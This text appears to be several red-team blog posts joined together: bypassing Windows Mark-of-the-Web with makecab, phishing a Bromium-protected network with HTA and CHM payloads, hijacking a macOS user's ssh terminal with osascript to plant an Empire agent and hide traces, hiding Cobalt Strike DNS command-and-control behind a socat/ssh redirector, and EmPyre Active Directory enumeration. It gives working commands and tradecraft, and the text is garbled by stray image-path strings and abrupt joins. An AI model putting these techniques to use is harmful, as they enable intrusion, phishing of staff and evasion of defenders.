I decided to start by using the built-in makecab.exe command to compress my payloads with the mindset of“living off the land”.  For payloads, I created a malicious .LNK file using a Create-LNK by @enigma0x3. I also created a malicious .CHM file using Out-CHM from the Nishang project. Both of these payloads are typically blockedafter downloading by the Windows Attachment Manager. Next, I used makecab.exe to compress these payloads and hosted them on my Cobalt Strike Server.

Now that my payloads are hosted and ready for downloading. I used a Windows 10 VM and the Chrome Browser to download and uncompress each file. Right-clicking each downloaded payload and looking at properties, we can see that the .chm was still labeled as “blocked” and the .lnk was not!

Here is the difference with Alternate Data Streams (ADS) shown by the sysinternals tool streams64.exe:

If I execute each payload, the .chm should be blocked from calling back to the Cobalt Strike server while the .lnk file executes fully.

I’m not quite sure why the Windows Attachment Manager is inconsistent across different file types though. There definitely is more research to be done in this area but, I hope this post brings a little awareness for defenders and offensive testers alike.




Phishing Against BromiumThe purpose of this post is to re-iterate that no single solution should be relied upon as a one-stop solution against all attackers. I respect the advances Bromium has made in security however, a defense-in-depth approach should always be taken regarding enterprise security.

Note: This information represents a snapshot in time. The Bromium suite has “hopefully” remediated these issues.

This blog post covers an assessment against a network utilizing the Bromium Endpoint Protection suite. If you’re not familiar with Bromium, there’s a good whitepaper HERE. For now, what you need to know is that it’s an antivirus/antimalware suite that takes it a step further and opens “most” executable’s, office documents and browsers inside micro-VM spaces to “prevent” exploitation to the host machine.

I identified that the organization was using Bromium by enumerating LinkedIn profiles. I first decided to use a custom (HTML Application) HTA. While Cobalt Strike has the ability to generate HTA’s directly, I wanted to make sure that mine executed a fully-staged payload andwould get past any proxies or internal filters. I generated a fully-staged PowerShell payload in Cobalt Strike and hosted it on a team server so that it was available to the Internet. A fellow co-worker and I came up with an HTA profile that would include all of the information needed to get through most internal filters and proxies. You may find the code HERE.

After sending the phishing email, about 30 minutes passed and I noticed the Cobalt Strike web log was receiving hits to the fully-staged PowerShell payload and shortly after, I had beacons calling back. Success! I’ve successfully phished a Bromium protected endpoint by utilizing the HTA executable.

Next, I performed my usual enumeration steps, checking what is my current access level, and what is the host connected to on the network. After a quick “netstat –an |findstr “EST” in the established Beacon, I noticed every host was connected to port 80 on one specific server. I set one beacon to sleep at 0 seconds and started a SOCKS tunnel. After directing my browser through the proxy to the target host on port 80, we were greeted with the login page for the “Bromium Enterprise Controller”.

Most of you know what’s going to happen next. Yes, the login was admin:admin and I was logged in as the administratos of the entireinfrastructure’s Bromium management console. From here I could monitor the blue team’s actions, what payloads of mine may be being flagged and even stop Bromium vSentry on any host in the organization. I immediately noticed that the blue team had flagged my “HTA” as an executable document and successfully burned that payload for any future phishing campaigns. Knowing that the blue team was quick to react to our phishing campaigns and block payloads, I decided to exercise them with one more phishing campaign and a new payload.


This time I decided to utilize a Microsoft Compile HTML (CHM) payload. These files are executable and pop little help screens. Creating one requires installation of “HTML Help Workshop”. There is a great script that is part of the Nishang framework for compiling these quickly HERE. My phishing ruse this time was to be a “Phishing Alert: Corrective action required” email. My payload was disguised as a Bromium update package and the email was spoofed to come from the lead security official within the organization. Again I hosted the .chm file in Cobalt Strike for a web delivery. One important thing to note with sending out CHM files this way. When the user downloads the file, they have to right-click the .chm file, select properties and check the “unblock” box. What? Who would go through all that trouble? Well, after sending a few more emails I was greeted with more beacons! Remember, with the proper ruse, people will do what you ask them to do.

That’s the conclusion of my story about phishing against Bromium. I was able to successfully bypass the seemingly default settings of Bromium to gain a foothold on my target domain. Defenders, don’t rely on a single solution to block everything. It only takes hackers one time to be right. I hope this story helps others exercise their client’s defenses and everyone learnssome valuable lessons.



Interacting with MacOS terminal windows for lateral movement

Recently, I had a situation where the possibility of manipulating a MacOS terminal window through Empire might lead to lateral movement to a restricted area. Typically, I may “backdoor” an ssh configuration file as described here in order to “ride” an ssh connection to a high-value target. Sometimes, this may not be possible if time does not permit or MaxSessions is set on the sshd_config file. In this case, it may be useful to manipulate your target’s own terminal screen to execute commands on a remote host that they are ssh’d into.

Case study:Our target is operating on MacOS, we have compromised their host using the Empire python RAT. Ourtarget is ssh’d into a restricted host that we want access to. The server we want access to has restricted the max number of ssh sessions with the “MaxSessions” setting in the sshd_config file so that even if we backdoor the user’s ssh config file, we won’t be able to ride the session. What do we do? Enter osascript.

There’s a ton of resources if you google sending commands to a terminal window with osascript but, I’ll reference this post.


First, we’ll start with a simple setup of an Empire server running on a public IP.



Next, we’ll assume breach for this exercise and start with an agent running on a MacOS host.



In order do execute our payload on our restricted host, we’ll need to first generate a payload. We’ll host this payload on our external server using “python -m SimpleHTTPSever 8080”.


After a little enumeration using netstat and we find that our target is ssh’d into a high-value target that we want access too.


So what do we do here? Our target has access to the HVT that we need access to but, we can’t ride this access. Let’s decide to do something bold and send a command to their terminal screen. (Best done when they are away, perhaps at lunch). Using osascript as shown below, we can send a command to the terminal screen that is ssh’d into our target to download our payload to the remote host.


The following shot shows the victim’s terminal screen downloading our payload on the remote Vultr “HVT” that we wanted access too.


Now that we’ve successfully downloaded our payload to the remote HVT, we can send a few more commands to make our payload executable and run it on the remote host. As you can see the end result is a new Empire agent coming from our HVT that we previously did nothave access too.

Now, if your target user comes back from lunch and see’s this activity in their terminal screen, you’re obviously going to have a bad day. So, we can just clear their terminal screen with the following command and hopefully, they won’t be the wiser:

“shell osascript -e ‘tell application “Terminal” to activate’ -e ‘tell application “Terminal” to do script “clear” in window 1′”

Keep in mind this is just one possible way to use Empire and osascript to reach otherwise restricted targets. Hopefully, others find this useful. Good luck and hack wisely!

Redirecting Cobalt Strike DNS Beacons

While conducting a Red Team assessment, many factors come into play that result in success or failure of the operation. One such factor is keeping your Command and Control (C2) infrastructure hidden from the opposing (Blue) team. If your C2 is found and blocked, that may be the end of your assessment. At least, it’ll slow you down while you re-roll infrastructure (which is NOT fun). Using pure DNS traffic with Cobalt Strike is one layer to hide your communications from endpoint to C2; however, if the blue team is able to conduct a recursive DNS lookup to find your team server, you’re hosed! We can prevent the blue team from conducting these reverse lookups by using a host that redirects and “hides” our traffic with some network-bending kung fu.During my research, I found a handy write-up on a few ways to bend DNS traffic the way that we need to for Beacon traffic here. I want this post to be as comprehensive for users as possible. It is my goal for this to be used as a reference guide so, I’ll be covering starting from creating your DNS record to setting up your Cobalt Strike DNS listener and all points between.

Let me start by saying that I do not have any affiliation or preference with the service providers I am using in this post.  Use what you’re comfortable with.

To get started, we need to have a server running our Cobalt Strike team server and a server running as our redirector. Like so:


I recommend having your Cobalt Strike team server on a completely differentsubnet than your redirector. You can use the same VPS service to spin up both servers, but I recommend going the extra mile and using separate VPS providers for each server. If your redirector is somehow burned by the blue team, they may not only block your IP or range, but some have gone the distance to block VPS provider ranges completely.

We will need to create two DNS records to point to our infrastructure. Since we want our traffic to flow through our redirector, we’ll want to point our first “A” record to the redirector, not our team server. Then, we can create a Name Server(NS) record that points to our domain. The logic here is that when a query is done for our domain, our records tell the query that our name server will resolve the IP for you. Here is an example setup:


Now, if we conduct an nslookup, we’ll see that it does not currently resolve to anything.


Next, we start our team server and setup a DNS listener. SSH into your team server and change to your Cobalt Strike directory. To start your team server,run “./teamserver <external IP> <password>”. Now, from any location, firewalls permitting, you should be able to connect to your Cobalt Strike teamserver.

We need to setup our “DNS Server”. Cobalt Strike has a built-in DNS listener that will do just that and wait for incoming Beacons as well. Navigate from the “Cobalt Strike” menu to the “Listeners” option. Give your listener a name, select “windows/beacon_dns_reverse_dns_txt”, set your host IP address if it’s not already filled in and provide a port. This port is arbitrary for straight DNS but, would be used if the mode is changed to “http_txt”.


You will then be prompted to provide a domain for Beacon taskings. Fill out the prompt as shown:


That completes our setup of Cobalt Strike.

Next, we’ll move on to the network bending-fu needed to tunnel our DNS traffic from redirector to team server.SSH into your redirector and sudo to root. We need to start by installing some packages. Use “ apt-get install -y socat screen” to conduct the installation. This will install socat, which is our traffic redirecting tool. It will also install screen, which allows us to run our commands in attachable/detachable terminal screens for easy management. With setup complete, we’ll start bending our traffic!

First, we want to run the following two commands to start a screen session and execute our socat redirector in it. Type them exactly as shown.

screen -dmS socat

screen -S socat -p 0 -X stuff ‘socat udp4-listen:53,reuseaddr,fork tcp:localhost:53535; echo -ne \n’

A quick breakdown of the socat command. socat will listen on port 53 for any UDP traffic. It will then fork every packet that comes in and relay it over TCP to local port 53535. The “echo -ne \n” command just hits enter for you in your screen to execute the command.

Next, we want to tunnel this traffic securely to our Cobalt Strike team server. The next two commands will start a screen session and execute our SSHtunnel with port forwarding to the team server as needed. Replace “ssh_key”, “username” and “teamserver_ip” with your relevant values.

screen -dmS ssh1

screen -S ssh1 -p 0 -X stuff “ssh -i ssh_key -oStrictHostKeyChecking=no -L 53535:localhost:53535 -l username teamserver_ip; echo -ne \n;”

This SSH command will automatically accept the fingerprint prompt by setting StrictHostKeyChecking to “no”. Then, it will redirect your traffic from port 53535 to the same port on the remote team server over TCP All securely wrapped in our SSH tunnel.

Finally, we need one more command to start socat on our Cobalt Strike team server. The following command will SSH to the team server and execute socat for us.

ssh -oStrictHostKeyChecking=no -i ssh_key -l username teamserver_ip ‘socat tcp4-listen:53535,reuseaddr,fork UDP:localhost:53 &’

This socat command takes the UDP traffic that we’ve forced through our TCP tunnel on port 53535 and then re-forks that back to UDP port 53. At this point, our Cobalt Strike team server listening on port 53 will happily pick up that traffic for us!

Once this is all complete, an nslookup should provide the following results:



Success! This tells us that our Cobalt Strike server is successfully responding to lookups through the redirector. The Blue Team will be in the dark on exactly where your team server C2 resides! Also, if for some reason your redirector is blocked or burned, you won’t need to rebuild your team server. Just spin up a new redirector and DNS records.

I hope this post provides useful information for both sides of the spectrum. Feel free to ping me on twitter should you have any questions @424f424

EmPyre:Engaging Active Directory

This post is part of the ‘EmPyre Series’ with some background and an ongoing list of series posts [kept here].

This post will cover utilizing EmPyre to enumerate and engage Active Directory services. We’ll cover how to find the domain controller, enumerate users and groups, and inject Kerberos tickets into our session.

EmPyre provides modules to perform enumeration against Active Directory using the ldapsearch tool. This tool comes loaded by default on OS X and most Linux distributions. Using ldapsearch, we can mimic many of thefunctions of the popular PowerView PowerShell script to enumerate objects in Active Directory.  Active Directory enumeration modules can be found under “situational_awareness/network/active_directory/” module store.


To perform LDAP queries we’ll need a few bits of information to get started. First, we need the address of the domain controller or LDAP server to authenticate to. One simple way to get this address is to perform an nslookup as seen below.


